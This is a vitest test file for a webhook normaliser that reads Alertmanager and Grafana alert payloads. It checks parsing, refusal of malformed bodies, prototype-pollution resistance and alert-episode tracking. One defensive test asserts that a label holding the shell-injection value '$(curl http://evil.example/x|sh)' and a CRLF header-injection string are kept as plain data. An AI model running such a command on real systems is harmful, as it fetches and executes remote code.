// Every payload of test/fixtures/webhooks is read as its INDEX says: the pure part, up to which alerts there are.
import { readdirSync, readFileSync } from "node:fs";
import { describe, expect, test } from "vitest";
import { type Alert, type Delivery, DeliveryError } from "../../src/alerts/alert.ts";
import { decideEpisode } from "../../src/alerts/episode.ts";
import { DEFAULT_DELIVERY_LIMITS } from "../../src/alerts/limits.ts";
import { normaliseDelivery } from "../../src/alerts/normalise.ts";

const FOLDER = new URL("../fixtures/webhooks/", import.meta.url);
const NOW_MS = Date.parse("2026-03-04T12:00:00Z");
const SOURCE = { kind: "alertmanager", mapping: null } as const;

function read(name: string): Delivery {
  const body = { bytes: readFileSync(new URL(name, FOLDER)), contentType: "application/json" };
  return normaliseDelivery(SOURCE, body, NOW_MS, DEFAULT_DELIVERY_LIMITS);
}

/** In the order of the body: F firing, R resolved, E resolved without recovery; `?` meta, `!` test. */
function shapeOf(delivery: Delivery): string {
  const mark = { plain: "", meta: "?", test: "!" } as const;
  const letter = (alert: Alert) => (alert.status === "firing" ? "F" : alert.isRecovery ? "R" : "E");
  return delivery.alerts.map((alert) => letter(alert) + mark[alert.nature]).join(" ");
}

type Expected = Partial<Pick<Delivery, "receiver" | "truncatedAlerts">> & {
  readonly dialect: Delivery["dialect"];
  readonly shape: string;
  readonly first?: Partial<Alert>;
};

const am = (shape: string, rest: Partial<Expected> = {}): Expected => ({
  dialect: "alertmanager",
  shape,
  ...rest,
});
const grafana = (shape: string, rest: Partial<Expected> = {}): Expected => ({
  dialect: "grafana",
  shape,
  ...rest,
});
const legacy = (shape: string, rest: Partial<Expected> = {}): Expected => ({
  dialect: "grafana_legacy",
  shape,
  ...rest,
});

const INSTANCE_DOWN = "68fbaf1952a6109f";
const READABLE: Readonly<Record<string, Expected>> = {
  "am-v4-firing-single.json": am("F", {
    receiver: "autorunbook",
    truncatedAlerts: 0,
    first: {
      fingerprint: INSTANCE_DOWN,
      orgId: null,
      startsAt: "2026-03-04T11:02:13.417Z",
      startsAtMs: Date.parse("2026-03-04T11:02:13.417Z"),
      isStartAssumed: false,
      endsAtMs: null,
      values: null,
      generatorUrl: "http://prometheus.example.net:9090/graph?g0.expr=up+%3D%3D+0&g0.tab=1",
    },
  }),
  "am-v4-ha-duplicate-peer-b.json": am("F", { first: { fingerprint: INSTANCE_DOWN } }),
  "am-v4-repeat.json": am("F", { first: { fingerprint: INSTANCE_DOWN } }),
  "am-v4-resolved-single.json": am("R", { first: { fingerprint: INSTANCE_DOWN } }),
  "am-v4-firing-again-later-startsat.json": am("F", { first: { fingerprint: INSTANCE_DOWN } }),
  "am-v4-firing-group-25.json": am(Array(25).fill("F").join(" ")),
  "am-v4-mixed-firing-resolved.json": am("F R F R"),
  "am-v4-truncated.json": am("F F", { truncatedAlerts: 23 }),
  "am-v4-utf8-label-names.json": am("F", { first: { fingerprint: "091452febeb4a385", generatorUrl: null } }),
  "am-v4-empty-groupby.json": am("F"),
  "am-v4-receiver-regex-escaped.json": am("F", { receiver: "team.a/web.hook (prod)" }),
  "am-v0.32-notification-reason.json": am("F"),
  "am-upstream-default-payload.json": am("R"),
  "am-v0.20-no-truncatedalerts.json": am("F", { truncatedAlerts: 0 }),
  "grafana-v9.0-firing.json": grafana("F", { first: { values: null, orgId: "1" } }),
  "grafana-v9.5-firing.json": grafana("F"),
  "grafana-v11.6-firing-dashboard-image.json": grafana("F"),
  "grafana-v11.6-resolved.json": grafana("R"),
  "grafana-v12.0-mixed.json": grafana("F R"),
  "grafana-v12.3-enrichments.json": grafana("F"),
  "grafana-v13-firing.json": grafana("F", {
    first: {
      orgId: "1",
      values: new Map([
        ["A", 93.4],
        ["C", 1],
      ]),
      fingerprint: "61b6f1162359746f",
    },
  }),
  "grafana-nodata.json": grafana("F?"),
  "grafana-v9.5-nodata-with-state-reason.json": grafana("F?"),
  "grafana-datasource-error.json": grafana("F?"),
  "grafana-error-mapped-to-alerting.json": grafana("F?"),
  "grafana-values-null-nan.json": grafana("F", { first: { values: null } }),
  "grafana-resolved-missingseries.json": grafana("E?"),
  "grafana-resolved-rule-updated.json": grafana("E?"),
  "grafana-receiver-regex-escaped.json": grafana("F", { receiver: "My Webhook (prod)" }),
  "grafana-message-template-failed-empty.json": grafana("F"),
  "grafana-test-button-v9.5.json": grafana("F!", { receiver: "" }),
  "grafana-test-button-v12.4.json": grafana("F!", { receiver: "webhook" }),
  "grafana-upstream-test-custom-message.json": grafana("F", {
    first: { startsAtMs: NOW_MS, isStartAssumed: true },
  }),
  "grafana-upstream-test-truncated.json": grafana("F F", { truncatedAlerts: 1 }),
  "grafana-legacy-alerting.json": legacy("F", {
    first: {
      orgId: "1",
      labels: new Map([
        ["tag name", "tag value"],
        ["alertname", "Panel Title alert"],
        ["rule_id", "1"],
      ]),
      values: new Map([["Count", 1]]),
    },
  }),
  "grafana-legacy-ok.json": legacy("R"),
  "grafana-legacy-test-button.json": legacy("F!", {
    first: {
      labels: new Map([
        ["alertname", "Test notification"],
        ["rule_id", "7533874832689366674"],
      ]),
    },
  }),
  "malformed-future-startsat.json": am("F", { first: { startsAtMs: Date.parse("2031-01-01T00:00:00Z") } }),
  "malformed-version-number.json": am("F"),
  "malformed-no-alertname.json": am("F"),
  "malformed-null-maps.json": am("F", { first: { annotations: new Map(), generatorUrl: null } }),
  "malformed-proto-pollution.json": am("F"),
  "malformed-duplicate-keys.json": am("F"),
  "malformed-shell-injection-labels.json": am("F"),
};

const REFUSED: Readonly<Record<string, string>> = {
  "am-upstream-custom-payload-map.json": "body: neither a webhook of Alertmanager nor of Grafana",
  "grafana-custom-payload-arbitrary.json": "body: neither a webhook of Alertmanager nor of Grafana",
  "cloudevents-structured.json": "body: neither a webhook of Alertmanager nor of Grafana",
  "malformed-not-json.json": "body: the body is not JSON, or was cut off",
  "malformed-truncated-body.json": "body: the body is not JSON",
  "malformed-empty-body.json": "body: the body is empty",
  "malformed-empty-object.json": "body: neither a webhook of Alertmanager nor of Grafana",
  "malformed-alerts-missing.json": "/alerts: is required",
  "malformed-alerts-null.json": "/alerts: must be an array, is null",
  "malformed-unknown-status.json": '/alerts/0/status: must be "firing" or "resolved"',
  "malformed-bad-timestamps.json": "/alerts/0/startsAt: must be an RFC 3339 time",
};

/** No payloads. */
const OTHERS: readonly string[] = ["vectors-signatures-fingerprints.json"];

test("every file of the folder has a row here", () => {
  const rows = [...Object.keys(READABLE), ...Object.keys(REFUSED), ...OTHERS];
  expect(readdirSync(FOLDER).sort()).toEqual(rows.sort());
});

describe("readable payloads", () => {
  test.each(Object.entries(READABLE))("%s", (name, { shape, first, ...rest }) => {
    const delivery = read(name);
    expect(shapeOf(delivery)).toBe(shape);
    expect(delivery).toMatchObject({ ...rest, invalid: [] });
    expect(delivery.alerts[0]).toMatchObject(first ?? {});
  });
});

describe("refused payloads", () => {
  test.each(Object.entries(REFUSED))("%s", (name, message) => {
    expect(() => read(name)).toThrow(DeliveryError);
    expect(() => read(name)).toThrow(message);
  });
});

describe("what single payloads must not do", () => {
  test("label names of any script stay as they are", () => {
    const labels = read("am-v4-utf8-label-names.json").alerts[0]?.labels;
    expect(labels?.get("host.name")).toBe("db-01.例え.jp");
    expect(labels?.get("🔥")).toBe("yes");
  });

  test("members named __proto__ and constructor change no prototype", () => {
    const delivery = read("malformed-proto-pollution.json");
    expect("polluted" in {}).toBe(false);
    expect("polluted" in delivery).toBe(false);
  });

  test("hostile values are kept as data, and U+0000 is replaced", () => {
    const [alert] = read("malformed-shell-injection-labels.json").alerts;
    expect(alert?.labels.get("instance")).toBe("$(curl http://evil.example/x|sh)");
    expect(alert?.annotations.get("description")).toBe("line1\r\nX-Injected: 1\ufffd");
  });

  test("legacy alerting and ok are one identity, the test button another", () => {
    const identity = (name: string) => read(name).alerts[0]?.fingerprint;
    expect(identity("grafana-legacy-alerting.json")).toBe(identity("grafana-legacy-ok.json"));
    expect(identity("grafana-legacy-alerting.json")).not.toBe(identity("grafana-legacy-test-button.json"));
  });
});

test("the Alertmanager series opens, repeats twice, closes and opens again", () => {
  const names = [
    "firing-single",
    "ha-duplicate-peer-b",
    "repeat",
    "resolved-single",
    "firing-again-later-startsat",
  ];
  let open: { startsAtMs: number } | null = null;
  let lastEndedAtMs: number | null = null;
  const kinds: string[] = [];
  for (const name of names) {
    const [alert] = read(`am-v4-${name}.json`).alerts;
    if (alert === undefined) throw new Error(`${name} has no alert`);
    const change = decideEpisode({ sourceKind: "alertmanager", open, lastEndedAtMs, alert, nowMs: NOW_MS });
    kinds.push(change.kind);
    if (change.kind === "opens" || change.kind === "repeats") open = { startsAtMs: change.startsAtMs };
    if (change.kind !== "closes") continue;
    open = null;
    lastEndedAtMs = change.endedAtMs;
  }
  expect(kinds).toEqual(["opens", "repeats", "repeats", "closes", "opens"]);
});

test("the same start later is a new episode although the resolve was never delivered", () => {
  const [first] = read("am-v4-firing-single.json").alerts;
  const [again] = read("am-v4-firing-again-later-startsat.json").alerts;
  if (first === undefined || again === undefined) throw new Error("a fixture has no alert");
  const open = { startsAtMs: first.startsAtMs };
  const ask = (sourceKind: "alertmanager" | "grafana") =>
    decideEpisode({ sourceKind, open, lastEndedAtMs: null, alert: again, nowMs: NOW_MS }).kind;
  expect(ask("alertmanager")).toBe("reopens");
  expect(ask("grafana")).toBe("repeats");
});
